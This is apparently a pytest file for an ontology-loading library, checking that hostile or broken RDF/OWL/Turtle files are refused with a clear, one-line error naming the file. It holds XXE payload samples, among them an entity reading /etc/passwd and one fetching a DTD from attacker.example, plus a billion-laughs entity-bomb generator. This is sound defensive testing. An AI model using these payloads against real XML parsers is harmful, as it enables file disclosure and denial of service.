"""Hostile and broken ontology files: refused quickly, with the file (and line) named."""

from __future__ import annotations

import resource
import time

import pytest

from kgenhance.cli import main
from kgenhance.errors import KGEnhanceError, OntologyError
from kgenhance.graph import load_graph
from kgenhance.link import EntityLinker

RDF_HEAD = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
    'xmlns:rdfs="http://www.w3.org/2000/01/rdf-schema#">\n'
)
TTL_HEAD = "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n@prefix owl: <http://www.w3.org/2002/07/owl#> .\n"


def billion_laughs(levels: int = 9) -> str:
    ents = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, levels + 1)]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n' + "\n".join(ents) + "\n]>\n" + RDF_HEAD
        + f'<rdf:Description rdf:about="http://e.org/a"><rdfs:label>&lol{levels};</rdfs:label></rdf:Description>\n'
        "</rdf:RDF>\n"
    )


def test_billion_laughs_refused_fast_and_small(tmp_path):
    path = tmp_path / "bomb.rdf"
    path.write_text(billion_laughs())
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    t0 = time.perf_counter()
    with pytest.raises(OntologyError, match="entity expansion too large") as err:
        load_graph(path, cache=False)
    assert time.perf_counter() - t0 < 1.0
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 100
    assert str(path) in str(err.value)


def test_internal_entities_still_work(tmp_path):
    # Protégé and FIBO declare namespace entities; those must keep loading
    path = tmp_path / "ok.rdf"
    path.write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [<!ENTITY ex "http://e.org/">]>\n' + RDF_HEAD
        + '<rdf:Description rdf:about="&ex;a"><rdfs:label>alpha</rdfs:label></rdf:Description>\n</rdf:RDF>\n'
    )
    assert load_graph(path, cache=False).entity("http://e.org/a").label == "alpha"


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rdf:RDF [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rdf:RDF [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]>',
        '<!DOCTYPE rdf:RDF [<!ENTITY x PUBLIC "-//x//EN" "http://attacker.example/x">]>',
    ],
)
def test_external_entities_never_resolved(tmp_path, doctype):
    path = tmp_path / "xxe.rdf"
    path.write_text(
        f'<?xml version="1.0"?>\n{doctype}\n' + RDF_HEAD
        + '<rdf:Description rdf:about="http://e.org/a"><rdfs:label>a</rdfs:label></rdf:Description>\n</rdf:RDF>\n'
    )
    with pytest.raises(OntologyError, match="external XML entity|unsafe XML"):
        load_graph(path, cache=False)


def test_malformed_xml_names_file_and_line(tmp_path):
    path = tmp_path / "broken.owl"
    path.write_text('<?xml version="1.0"?>\n' + RDF_HEAD + "<rdf:Description rdf:about='http://e.org/a'>\n<oops>\n</rdf:RDF>\n")
    with pytest.raises(OntologyError) as err:
        load_graph(path, cache=False)
    assert str(err.value).startswith(f"{path}:")
    assert err.value.line is not None


@pytest.mark.parametrize(
    "name, content",
    [
        ("truncated.ttl", TTL_HEAD + '<http://e.org/a> rdfs:label "unterminated'),
        ("binary.ttl", bytes(range(256)) * 4),
        ("binary.owl", b"\x89PNG\r\n\x1a\n" + bytes(200)),
        ("zero.owl", b""),
        ("broken.jsonld", '{"@id": "http://e.org/a", '),
    ],
)
def test_broken_files_are_one_clear_error(tmp_path, name, content):
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    with pytest.raises(OntologyError) as err:
        load_graph(path, cache=False)
    assert str(path) in str(err.value)
    assert "\n" not in str(err.value)


def test_cli_reports_hostile_file_in_one_line(tmp_path, capsys):
    path = tmp_path / "bomb.rdf"
    path.write_text(billion_laughs())
    code = main(["-q", "graph", "stats", str(path), "--no-cache"])
    _, err = capsys.readouterr()
    assert code == 2
    assert err.count("\n") == 1 and "entity expansion too large" in err and "Traceback" not in err


def test_catalog_pointing_outside_the_loaded_folders(tmp_path):
    onto, outside = tmp_path / "onto", tmp_path / "elsewhere"
    onto.mkdir()
    outside.mkdir()
    (outside / "secret.ttl").write_text(TTL_HEAD + '<http://e.org/S> a owl:Class ; rdfs:label "secret" .\n')
    (onto / "m.ttl").write_text(
        TTL_HEAD + "<http://e.org/m> a owl:Ontology ; owl:imports <http://e.org/secret> .\n"
        '<http://e.org/M> a owl:Class ; rdfs:label "main" .\n'
    )
    (onto / "catalog-v001.xml").write_text(
        '<?xml version="1.0"?>\n<catalog xmlns="urn:oasis:names:tc:entity:xmlns:xml:catalog">\n'
        '<uri name="http://e.org/secret" uri="../elsewhere/secret.ttl"/>\n</catalog>\n'
    )
    g = load_graph(onto, cache=False)
    assert "http://e.org/S" not in g
    assert "http://e.org/secret" in g.unresolved_imports
    assert any("outside the loaded folders" in w for w in g.warnings)
    allowed = load_graph(onto, cache=False, allow_outside_imports=True)
    assert allowed.entity("http://e.org/S").label == "secret"
    both = load_graph(onto, outside, cache=False)  # naming the other folder is consent too
    assert "http://e.org/S" in both


def cycle_graph(tmp_path, chain: list[tuple[str, str, str | None]]):
    """A graph of classes (local name, label, parent local name) that may form subClassOf cycles."""
    lines = [
        f'<http://e.org/{name}> a owl:Class ; rdfs:label "{label}"'
        + (f" ; rdfs:subClassOf <http://e.org/{parent}>" if parent else "") + " .\n"
        for name, label, parent in chain
    ]
    path = tmp_path / "cycle.ttl"
    path.write_text(TTL_HEAD + "".join(lines))
    return load_graph(path, cache=False)


def test_subclass_cycles_terminate(tmp_path):
    g = cycle_graph(tmp_path, [("A", "a", "B"), ("B", "b", "C"), ("C", "c", "A")])
    assert len(g.descendants("http://e.org/A")) == 3
    assert [e.label for e in g.path_to_root("http://e.org/A")] == ["a", "b", "c"]


def test_cycle_exclusion_covers_the_whole_cycle(tmp_path):
    g = cycle_graph(tmp_path, [("A", "alpha", "B"), ("B", "beta", "A"), ("X", "xray", None)])
    linker = EntityLinker.from_graph(g, exclude_branches=("http://e.org/A",))
    assert [m.label for m in linker.link("alpha beta xray")] == ["xray"]
    with pytest.raises(KGEnhanceError, match="no linkable names"):
        EntityLinker.from_graph(g, exclude_branches=("http://e.org/A", "http://e.org/X"))


@pytest.mark.parametrize("name", ["texts.csv", "texts.txt", "texts.jsonl"])
def test_invalid_utf8_in_input_files_names_the_line(tmp_path, name):
    from kgenhance.errors import DataError
    from kgenhance.train import read_texts

    path = tmp_path / name
    bad = {"texts.csv": b'text,label\n"fine",a\n"bad \xff",b\n', "texts.txt": b"fine\nfine\nbad \xff\n",
           "texts.jsonl": b'{"text": "fine"}\n{"text": "fine"}\n{"text": "bad \xff"}\n'}[name]
    path.write_bytes(bad)
    with pytest.raises(DataError, match=rf"{name}:3: not valid UTF-8"):
        read_texts(path)


def test_long_texts_are_read_in_their_window_with_a_warning(tiny_graph, tiny_backbone, caplog):
    import torch

    from kgenhance.encode import EntityEmbeddings
    from kgenhance.model import KnowledgeAwareClassifier

    emb = EntityEmbeddings(torch.randn(len(tiny_graph), 8, generator=torch.Generator().manual_seed(0)),
                           tiny_graph.content_hash)
    model = KnowledgeAwareClassifier.from_backbone(str(tiny_backbone), ["a", "b"], emb).attach(
        linker=EntityLinker.from_graph(tiny_graph))
    text = "the patient had atrial fibrillation. " + "seizures and more seizures " * 40_000  # ~1 MB
    calls = []
    original = model.linker.link
    model.linker.link = lambda t: calls.append(len(t)) or original(t)
    try:
        with caplog.at_level("WARNING", logger="kgenhance"):
            (pred,) = model.predict([text], explain=True)
    finally:
        model.linker.link = original
    assert calls and max(calls) < 2_000  # only the encoded window was linked, not the 1 MB
    assert pred.label in model.config.label2id
    assert "1 of 1 text(s) are longer" in caplog.text and pred.truncated
    assert any(e.surface == "atrial fibrillation" for e in pred.entities)
    caplog.clear()
    with caplog.at_level("WARNING", logger="kgenhance"):
        (short,) = model.predict(["the patient had atrial fibrillation"])
        model.predict([text], warn_truncated=False)
    assert "longer" not in caplog.text and not short.truncated
    empty, blank = model.predict(["", "  \n\t "], explain=True)
    assert empty.entities == [] and blank.entities == []
    assert sum(empty.probabilities.values()) == pytest.approx(1.0, abs=1e-5)


@pytest.fixture
def local_server(tmp_path):
    """An HTTP server on 127.0.0.1 serving tmp_path/www (no outside network is used)."""
    import functools
    import http.server
    import threading

    www = tmp_path / "www"
    www.mkdir()

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(www)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield www, f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def test_http_imports_fetched_only_when_allowed(tmp_path, local_server):
    www, base = local_server
    (www / "base.ttl").write_text(
        TTL_HEAD + f"<{base}/base.ttl> a owl:Ontology ; owl:imports <{base}/deeper.owl> .\n"
        '<http://e.org/Base> a owl:Class ; rdfs:label "base thing" .\n'
    )
    (www / "deeper.owl").write_text(
        '<?xml version="1.0"?>\n' + RDF_HEAD
        + '<rdf:Description rdf:about="http://e.org/Deep"><rdfs:label>deep thing</rdfs:label></rdf:Description>\n'
        "</rdf:RDF>\n"
    )
    (www / "bomb.rdf").write_text(billion_laughs())
    main_file = tmp_path / "main.ttl"
    main_file.write_text(
        TTL_HEAD + f"<http://e.org/m> a owl:Ontology ; owl:imports <{base}/base.ttl> , <{base}/missing.ttl> ,"
        f" <{base}/bomb.rdf> .\n"
        '<http://e.org/M> a owl:Class ; rdfs:label "main thing" ; rdfs:subClassOf <http://e.org/Base> .\n'
    )
    offline = load_graph(main_file, cache=False)
    assert offline.entity("http://e.org/Base").label is None  # referenced, never fetched
    assert f"{base}/base.ttl" in offline.unresolved_imports
    online = load_graph(main_file, cache=False, allow_network=True)
    assert online.entity("http://e.org/Base").label == "base thing"
    assert online.entity("http://e.org/Deep").label == "deep thing"  # an import of the import
    assert sorted(online.unresolved_imports) == [f"{base}/bomb.rdf", f"{base}/missing.ttl"]
    assert f"{base}/base.ttl" in online.sources


def test_cli_network_and_outside_import_switches(tmp_path, local_server, capsys):
    www, base = local_server
    (www / "base.ttl").write_text(TTL_HEAD + '<http://e.org/Base> a owl:Class ; rdfs:label "base thing" .\n')
    main_file = tmp_path / "main.ttl"
    main_file.write_text(
        TTL_HEAD + f"<http://e.org/m> a owl:Ontology ; owl:imports <{base}/base.ttl> .\n"
        '<http://e.org/M> a owl:Class ; rdfs:label "main thing" .\n'
    )
    import json as _json

    assert main(["-q", "graph", "stats", str(main_file), "--json"]) == 0
    assert _json.loads(capsys.readouterr().out)["unresolved_imports"] == [f"{base}/base.ttl"]
    assert main(["-q", "--allow-network", "graph", "stats", str(main_file), "--json"]) == 0
    stats = _json.loads(capsys.readouterr().out)
    assert stats["unresolved_imports"] == [] and stats["labelled_entities"] == 2
